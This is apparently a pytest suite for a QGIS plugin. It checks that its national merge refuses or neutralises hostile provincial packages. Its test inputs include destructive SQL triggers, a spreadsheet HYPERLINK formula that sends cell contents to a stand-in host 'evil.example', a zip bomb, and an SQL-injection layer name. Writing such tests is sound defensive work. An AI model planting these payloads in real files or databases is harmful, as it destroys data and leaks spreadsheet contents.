"""Hostile and failing inputs at the national desk (issue 16): each ends in a clear finding that names the
file and what to do; nothing of the store or the other packages is lost, changed or half-done.

Every hostile package is a valid export corrupted one way: huge numbers, impossible and future dates,
triggers, views and virtual tables, a mislabelled shapefile copy, formula text, a zip bomb, odd layers.
"""

from __future__ import annotations

import datetime as dt
import json
import re
import sqlite3
import struct
import time
import zipfile
from pathlib import Path

import numpy as np
import pytest
from osgeo import gdal, ogr

from redline_plugin.core.assessment.grading import grade_cumulative
from redline_plugin.core.submission.national import MergeRequest, merge_national
from redline_plugin.core.submission.validate import validate_package
from redline_plugin.core.tables import submission_schema as schema
from test.qgis import hostile_data as hd
from test.qgis import submission_data as data

TODAY = dt.date.today()


@pytest.fixture(scope="module")
def packages(tmp_path_factory, qgis_app):
    folder = tmp_path_factory.mktemp("hostile")
    return {code: hd.small_province(folder, code) for code in ("350000", "360000")}


def errors_of(report, rule: str) -> list[str]:
    return [f.message for f in report.errors if f.rule == rule]


def store_rows(path: Path, table: str, columns: str) -> list[tuple]:
    with sqlite3.connect(path) as connection:
        return sorted(connection.execute(f"SELECT {columns} FROM {table}").fetchall())


# ---- 1. a number that overflows a float -------------------------------------------------------


@pytest.mark.parametrize("literal", ["1" + "0" * 400, "1e400", "-5.0", "12345678901234567890123"])
def test_huge_or_negative_number_in_the_manifest_is_a_finding(packages, tmp_path, literal):
    hostile = hd.with_manifest(
        packages["350000"],
        tmp_path / packages["350000"].name,
        lambda text: re.sub(r'"total_km2": [0-9.]+', f'"total_km2": {literal}', text),
    )
    report = validate_package(hostile)
    messages = errors_of(report, "E1-manifest")
    assert messages and any("total_km2" in m or "digits" in m for m in messages), report.error_summary()
    assert all("Rebuild the package" in m for m in messages)


def test_one_bad_package_never_stops_the_merge_of_the_others(packages, tmp_path):
    hostile = hd.with_manifest(
        packages["350000"],
        tmp_path / "in" / packages["350000"].name,
        lambda text: re.sub(r'"total_km2": [0-9.]+', '"total_km2": 1' + "0" * 400, text),
    )
    store = tmp_path / "national.gpkg"
    result = merge_national(MergeRequest([hostile, packages["360000"]], tmp_path / "r", output_gpkg=store))
    assert result.status(hostile.name) == "refused" and result.status(packages["360000"].name) == "merged"
    assert store_rows(store, "STBHHX", "DISTINCT SJXZQDM") == [("36",)]
    assert store_rows(store, "national_statistics", "province_code, patches") == [("360000", 6)]
    index = (tmp_path / "r" / "index.html").read_text(encoding="utf-8")
    assert hostile.name in index and "manifest.json holds an integer of 401 digits" in index


# ---- 2. PACKAGE_FOLDER alone ------------------------------------------------------------------


def test_merge_with_only_a_package_folder(packages, run_algorithm, tmp_path):
    folder = tmp_path / "incoming"
    folder.mkdir()
    for package in packages.values():
        (folder / package.name).write_bytes(package.read_bytes())
    result = run_algorithm(
        "merge_national",
        {"PACKAGE_FOLDER": str(folder), "OUTPUT": str(tmp_path / "n.gpkg"), "REPORT_FOLDER": str(tmp_path / "r")},
    )
    assert result["MERGED"] == 2 and result["REFUSED"] == 0


# ---- 4. data only: no trigger, view or foreign virtual table ----------------------------------


def _sql(*statements: str):
    def change(folder: Path) -> None:
        with sqlite3.connect(folder / schema.GPKG_NAME) as connection:
            for statement in statements:
                connection.execute(statement)

    return change


EXECUTABLE = {
    "trigger on gpkg_contents": (
        "CREATE TRIGGER wipe AFTER UPDATE ON gpkg_contents BEGIN DELETE FROM STBHHX; END",
        r"trigger 'wipe' on 'gpkg_contents'",
    ),
    "trigger posing as the spatial index's": (
        "CREATE TRIGGER rtree_STBHHX_geom_update9 AFTER UPDATE ON STBHHX BEGIN DELETE FROM ledger_area; END",
        r"'rtree_STBHHX_geom_update9' on 'STBHHX' that runs DELETE on 'ledger_area'",
    ),
    "trigger posing as GDAL's feature count": (
        "CREATE TRIGGER trigger_insert_feature_count_STBHHX2 AFTER INSERT ON STBHHX BEGIN DELETE FROM STBHHX; END",
        r"trigger 'trigger_insert_feature_count_STBHHX2' on 'STBHHX'",
    ),
    "view": ("CREATE VIEW patches AS SELECT * FROM STBHHX", r"a view 'patches'"),
    "virtual table": ("CREATE VIRTUAL TABLE spy USING rtree(id, minx, maxx)", r"virtual table 'spy' that is not a spatial index"),
}


@pytest.mark.parametrize("case", list(EXECUTABLE))
def test_geopackage_with_executable_schema_is_refused(packages, tmp_path, case):
    statement, expected = EXECUTABLE[case]
    hostile = data.repack(packages["350000"], tmp_path / packages["350000"].name, _sql(statement))
    report = validate_package(hostile)
    messages = errors_of(report, "E2-layer")
    assert any("is not data only" in m and re.search(expected, m) for m in messages), report.error_summary()
    assert any(f"STBHHX.gpkg ({hostile.name})" in m for m in messages)
    assert report.patch_count == 0  # refused before GDAL opened it


def test_the_exports_own_triggers_and_spatial_index_pass(packages):
    with zipfile.ZipFile(packages["350000"]) as archive:
        with archive.open(schema.GPKG_NAME) as stream:
            content = stream.read()
    assert b"CREATE TRIGGER" in content and b"rtree_STBHHX_geom" in content  # GDAL's own, judged by what they do
    report = validate_package(packages["350000"])
    assert report.passed, report.error_summary()


# ---- 5. shapefile copy in CP936 under a .cpg that says UTF-8 -----------------------------------


def _recode_dbf(encoding: str, replace: tuple[str, str] | None = None):
    """Rewrite every text field of the DBF from UTF-8 into `encoding` (or swap one value), keeping the .cpg."""

    def change(folder: Path) -> None:
        path = folder / f"{schema.PATCH_LAYER}.dbf"
        content = bytearray(path.read_bytes())
        records, header_size, record_size = struct.unpack("<IHH", content[4:12])
        fields, offset, position = [], 1, 32
        while content[position] != 0x0D:
            kind, width = chr(content[position + 11]), content[position + 16]
            fields.append((kind, offset, width))
            offset += width
            position += 32
        for number in range(records):
            start = header_size + number * record_size
            for kind, field_offset, width in fields:
                if kind != "C":
                    continue
                cell = slice(start + field_offset, start + field_offset + width)
                text = bytes(content[cell]).rstrip(b" ").decode("utf-8")
                if replace is not None:
                    text = text.replace(*replace)
                content[cell] = text.encode(encoding).ljust(width, b" ")[:width]
        path.write_bytes(bytes(content))

    return change


def test_shapefile_in_cp936_labelled_utf8_is_refused(packages, tmp_path):
    hostile = data.repack(packages["350000"], tmp_path / packages["350000"].name, _recode_dbf("cp936"))
    with zipfile.ZipFile(hostile) as archive:
        assert archive.read(f"{schema.PATCH_LAYER}.cpg").strip().upper() in (b"UTF-8", b"UTF8")
    report = validate_package(hostile)
    messages = [m for m in errors_of(report, "E2-layer") if "STBHHX.shp" in m]
    assert messages and re.search(r"patch 350821020001: HXMC is not valid utf-8", messages[0]), report.error_summary()
    assert "XZQMC" in messages[0]  # every text field is compared, not only HXBM


def test_shapefile_text_that_differs_from_the_geopackage_is_refused(packages, tmp_path):
    hostile = data.repack(packages["350000"], tmp_path / packages["350000"].name, _recode_dbf("utf-8", ("长汀县", "瑞金市")))
    report = validate_package(hostile)
    messages = [m for m in errors_of(report, "E2-layer") if "STBHHX.shp" in m]
    assert messages, report.error_summary()
    assert "reads '瑞金市生物多样性维护生态保护红线' in the shapefile but '长汀县" in messages[0]


# ---- 6. impossible and future dates ----------------------------------------------------------


def _dated(package: Path, folder: Path, compact: str) -> Path:
    iso = f"{compact[:4]}-{compact[4:6]}-{compact[6:]}"
    return hd.with_manifest(
        package,
        folder / package.name.replace(package.name[-12:-4], compact),
        lambda text: text.replace(f'"package_date": "{data.PACKAGE_DATE.isoformat()}"', f'"package_date": "{iso}"'),
    )


def test_date_rules():
    from redline_plugin.core.submission.manifest import date_problem

    assert date_problem("20260231") and "not a real calendar date" in date_problem("20260231")
    assert "in the future" in date_problem((TODAY + dt.timedelta(days=2)).isoformat())
    assert date_problem((TODAY + dt.timedelta(days=1)).isoformat()) is None  # one day of clock skew
    assert date_problem("2024-05-01") is None


@pytest.mark.parametrize("compact", ["20260231", "20240000", (TODAY + dt.timedelta(days=400)).strftime("%Y%m%d")])
def test_impossible_or_future_package_date_is_refused(packages, tmp_path, compact):
    report = validate_package(_dated(packages["350000"], tmp_path, compact))
    messages = errors_of(report, "E1-manifest")
    assert any(re.search(r"not a real calendar date|in the future|not a date", m) for m in messages), report.error_summary()


def test_future_package_never_locks_out_a_real_one(packages, tmp_path):
    future = _dated(packages["350000"], tmp_path / "in", (TODAY + dt.timedelta(days=400)).strftime("%Y%m%d"))
    real = hd.newer(packages["350000"], tmp_path / "in", TODAY - dt.timedelta(days=3))
    store = tmp_path / "n.gpkg"
    request = {"report_folder": tmp_path / "r", "output_gpkg": store}
    both = merge_national(MergeRequest([future, real], **request))
    assert both.status(future.name) == "refused" and both.status(real.name) == "merged"
    # a store in which an older version let a future date in: a real later package still replaces it
    with sqlite3.connect(store) as connection:
        connection.execute("UPDATE national_packages SET package_date = '2099-12-31', sha256 = 'x'")
    again = merge_national(MergeRequest([real], **request))
    assert again.status(real.name) == "merged"
    assert store_rows(store, "national_packages", "package_date") == [((TODAY - dt.timedelta(days=3)).isoformat(),)]


# ---- 7. formula text in the national statistics ------------------------------------------------


def test_formula_in_a_province_name_is_neutralised_in_the_csv(packages, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"福建省")'
    hostile = hd.with_manifest(
        packages["350000"],
        tmp_path / "in" / packages["350000"].name,
        lambda text: text.replace('"name": "福建省"', f'"name": {json.dumps(formula, ensure_ascii=False)}'),
    )
    merge_national(MergeRequest([hostile], tmp_path / "r", output_gpkg=tmp_path / "n.gpkg"))
    cells = [line.split(",")[1] for line in (tmp_path / "r" / "national_statistics.csv").read_text("utf-8-sig").splitlines()]
    named = [cell for cell in cells if "HYPERLINK" in cell]
    assert named and all(cell.lstrip('"').startswith("'=") for cell in named), cells
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)


# ---- 8. zip bomb listed in the manifest with its right checksum --------------------------------


def test_listed_zip_bomb_is_refused_before_it_inflates(packages, tmp_path):
    def bomb(folder: Path) -> None:
        with open(folder / "report" / "annex.bin", "wb") as stream:
            stream.truncate(60 * 1024**2)  # 60 MB of zeros: ~60 kB deflated, ratio ~1000:1

    hostile = data.repack(packages["350000"], tmp_path / packages["350000"].name, bomb)
    work = tmp_path / "work"
    work.mkdir()
    started = time.perf_counter()
    report = validate_package(hostile, workdir=work)
    elapsed = time.perf_counter() - started
    messages = errors_of(report, "E1-size")
    assert messages and re.search(r"report/annex.bin in .* inflates from [\d,]+ to 62,914,560 bytes, more than 200 ", messages[0])
    assert elapsed < 5 and not list(work.iterdir())
    assert schema.MAX_UNPACKED_BYTES == 2 * 1024**3


# ---- 11. odd extra layers; grading a raster with nothing positive -------------------------------


def test_extra_layers_with_sql_or_very_long_names_are_warned_about(packages, tmp_path):
    names = ["evil'); DROP TABLE STBHHX;--", "x" * 3000, "notes"]

    def add_layers(folder: Path) -> None:
        dataset = gdal.OpenEx(str(folder / schema.GPKG_NAME), gdal.OF_VECTOR | gdal.OF_UPDATE)
        for name in names:
            layer = dataset.CreateLayer(name, None, ogr.wkbNone)
            layer.CreateField(ogr.FieldDefn("a", ogr.OFTString))
        dataset = None

    report = validate_package(data.repack(packages["350000"], tmp_path / packages["350000"].name, add_layers))
    assert report.passed, report.error_summary()
    warned = [f.message for f in report.warnings if f.rule == "W-layer"]
    assert len(warned) == 3, warned
    assert any("DROP TABLE" in m and "not a plain name" in m for m in warned)
    assert any("(3000 characters)" in m and len(m) < 400 for m in warned)
    assert any("'notes'" in m and "not merged" in m for m in warned)


def test_grading_a_raster_with_no_positive_value_warns(tmp_path, qgis_app):
    source = tmp_path / "negative.tif"
    dataset = gdal.GetDriverByName("GTiff").Create(str(source), 20, 20, 1, gdal.GDT_Float32)
    dataset.SetGeoTransform((116.0, 0.01, 0, 26.0, 0, -0.01))
    dataset.GetRasterBand(1).WriteArray(-np.arange(400, dtype=np.float32).reshape(20, 20))
    dataset = None
    result = grade_cumulative(source, tmp_path / "grade.tif")
    assert result.thresholds == [None, None]
    assert len(result.warnings) == 1 and "every cell is graded 1" in result.warnings[0] and "negative.tif" in result.warnings[0]
